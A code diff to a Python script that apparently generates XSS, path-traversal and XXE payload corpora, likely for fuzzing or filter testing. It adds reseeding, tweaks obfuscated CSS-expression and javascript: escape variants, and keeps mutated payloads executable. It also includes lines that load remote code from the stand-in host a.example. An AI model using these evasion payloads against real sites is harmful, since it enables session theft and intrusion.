@@ -50,7 +50,8 @@ import random
 import sys
 import urllib.parse
 
-R = random.Random(int(os.environ.get("SEED", "4711")))
+SEED = int(os.environ.get("SEED", "4711"))
+R = random.Random(SEED)
 
 
 def enc(v, how):
@@ -126,7 +127,7 @@ def xss_markup(c):
         "<div style=\"background:url(\\6a avascript:%s)\">" % c,
         "<div style=\"width:\\65 xpression(%s)\">" % c,
         "<div style=\"x:ex/**/pression(%s)\">" % c,
-        "<div style=\"x:e\\x\\p\\r\\e\\s\\s\\i\\o\\n(%s)\">" % c,
+        "<div style=\"x:\\65 \\78 pr\\65 ssion(%s)\">" % c,
         "<style>*{background:url('\\0000006a\\61vascript:%s')}</style>" % c,
         "<style>@im\\port '//a.example/x.css';</style>",
         "<style>@import url(//a.example/x.css)</style>",
@@ -156,7 +157,6 @@ def xss_markup(c):
         "<isindex type=image src=1 onerror=%s>" % c,
         "<base href=//a.example/><script src=/x.js></script>",
         "<link rel=import href=//a.example/x.html>",
-        "<link rel=modulepreload href=//a.example/m.js>",
         "<portal src=//a.example/>",
         "<script>/*</script><script>*/%s</script>" % c,
         "<script src=data:text/javascript,%s></script>" % c,
@@ -227,6 +227,7 @@ def xss_attr(c):
 
 
 def gen_xss(n):
+    R.seed(SEED)
     rows = []
     for _ in range(n):
         c = R.choice(CALL)
@@ -237,8 +238,11 @@ def gen_xss(n):
             v = xss_js(c)
         else:
             v = xss_attr(c)
-        if R.random() < 0.2:
-            v = "".join(ch.upper() if R.random() < 0.4 else ch for ch in v)
+        if R.random() < 0.2 and k < 0.55:
+            # HTML names are case-insensitive, script is not: only the
+            # markup around the call changes case, and no JS escape
+            v = c.join("".join(ch.upper() if R.random() < 0.4 else ch for ch in part)
+                       for part in v.split(c)) if "\\u" not in v else v
         emit(rows, v)
     return rows
 
@@ -281,6 +285,7 @@ def trav_step():
 
 
 def gen_trav(n):
+    R.seed(SEED + 1)
     rows = []
     for _ in range(n):
         k = R.random()
@@ -420,6 +425,7 @@ def utf7(s):
 
 
 def gen_xxe(n):
+    R.seed(SEED + 2)
     rows = []
     for _ in range(n):
         d = xxe_doc()
